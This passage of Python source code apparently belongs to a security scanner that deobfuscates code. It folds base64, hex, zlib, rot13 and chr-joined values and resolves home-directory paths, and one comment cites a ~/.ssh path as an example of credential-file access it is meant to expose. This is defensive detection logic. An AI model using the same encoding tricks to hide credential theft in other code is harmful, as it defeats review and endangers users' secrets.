        inner = _value(reader, node.value, depth + 1)
        step = node.slice.step
        if inner is not None and node.slice.lower is None and node.slice.upper is None and step is not None:
            return inner[::-1] if _int(step) == -1 else None
        return None
    if isinstance(node, ast.Call):
        return _call_value(reader, node, depth)
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Div):  # pathlib: Path.home() / ".ssh"
        left, right = _value(reader, node.left, depth + 1), _value(reader, node.right, depth + 1)
        return f"{left.rstrip('/')}/{right}" if isinstance(left, str) and isinstance(right, str) else None
    if isinstance(node, ast.Attribute) and reader.name_of(node) in ("sys.executable", "sys.argv.0"):
        return "python3"
    return None


def _call_value(reader: _Reader, node: ast.Call, depth: int) -> str | bytes | None:
    name = reader.name_of(node.func) or ""
    args = [_value(reader, arg, depth + 1) for arg in node.args]
    try:
        if name.endswith(".decode") and isinstance(node.func, ast.Attribute):
            inner = _value(reader, node.func.value, depth + 1)
            return inner.decode(errors="replace") if isinstance(inner, bytes) else None
        if name.endswith(".encode") and isinstance(node.func, ast.Attribute):
            inner = _value(reader, node.func.value, depth + 1)
            return inner.encode() if isinstance(inner, str) else None
        if name.endswith(".join") and isinstance(node.func, ast.Attribute) and len(node.args) == 1:
            return _join(reader, node, depth)
        if name in _PATH_FUNCTIONS and args and None not in args and all(isinstance(a, str) for a in args):
            return _PATH_FUNCTIONS[name]([a for a in args if isinstance(a, str)])
        if name in ("pathlib.Path.home()", "pathlib.Path.home", "os.path.expanduser") and not args:
            return "~"
        if name in ("os.getenv", "os.environ.get") and args[:1] == ["HOME"]:
            return "~"
        if name == "chr" and node.args and _int(node.args[0]) is not None:
            return chr(_int(node.args[0]) or 0)
        if name in ("str", "bytes") and len(args) == 1:
            return args[0]
        return _decode(name, args)
    except (ValueError, TypeError, zlib.error, LookupError, OverflowError):
        return None


def _decode(name: str, args: list[str | bytes | None]) -> str | bytes | None:
    first = args[0] if args else None
    if first is None:
        return None
    raw = first.encode() if isinstance(first, str) else first
    decoders = {
        "base64.b64decode": base64.b64decode,
        "base64.decodebytes": base64.decodebytes,
        "base64.urlsafe_b64decode": base64.urlsafe_b64decode,
        "base64.b32decode": base64.b32decode,
        "base64.b16decode": base64.b16decode,
        "base64.a85decode": base64.a85decode,
        "base64.b85decode": base64.b85decode,
        "binascii.unhexlify": bytes.fromhex,
        "bytes.fromhex": bytes.fromhex,
        "binascii.a2b_base64": base64.b64decode,
        "zlib.decompress": zlib.decompress,
    }
    if name in ("bytes.fromhex", "binascii.unhexlify"):
        return bytes.fromhex(raw.decode())
    if name in decoders:
        decoded: bytes = decoders[name](raw)  # type: ignore[operator]
        return decoded
    if name == "codecs.decode" and len(args) > 1 and isinstance(args[1], str):
        encoding = args[1].replace("_", "").lower()
        if encoding in ("rot13", "rot-13"):
            return codecs.decode(raw.decode(), "rot13")
        result: str | bytes = codecs.decode(raw, args[1])
        return result
    return None


def _join(reader: _Reader, node: ast.Call, depth: int) -> str | None:
    assert isinstance(node.func, ast.Attribute)
    separator = _value(reader, node.func.value, depth + 1)
    items = node.args[0]
    if not isinstance(separator, str):
        return None
    if isinstance(items, (ast.List, ast.Tuple)):
        parts = [_fold(reader, element, depth + 1) for element in items.elts]
        return None if None in parts else separator.join(p for p in parts if p is not None)
    if isinstance(items, (ast.GeneratorExp, ast.ListComp)) and isinstance(items.elt, ast.Call):
        return _join_chr(reader, items)
    return None


def _join_chr(reader: _Reader, items: ast.GeneratorExp | ast.ListComp) -> str | None:
    """``''.join(chr(c) for c in [114, 109])``."""
    generator = items.generators[0]
    if reader.name_of(items.elt.func) != "chr" or not isinstance(generator.iter, (ast.List, ast.Tuple)):  # type: ignore[attr-defined]
        return None
    codes = [_int(element) for element in generator.iter.elts]
    return None if None in codes else "".join(chr(code) for code in codes if code is not None)


_HANDLERS: dict[type[ast.AST], Callable[[_Reader, Any, Loop], None]] = {
    ast.Import: _Reader.import_,
    ast.ImportFrom: _Reader.import_from,
    ast.Call: lambda reader, node, loop: reader.call(node, loop),
    ast.Assign: _Reader.assign,
    ast.For: _Reader.for_,
    ast.AsyncFor: _Reader.for_,
    ast.Attribute: _Reader.attribute,
    ast.Subscript: _Reader.subscript,
}
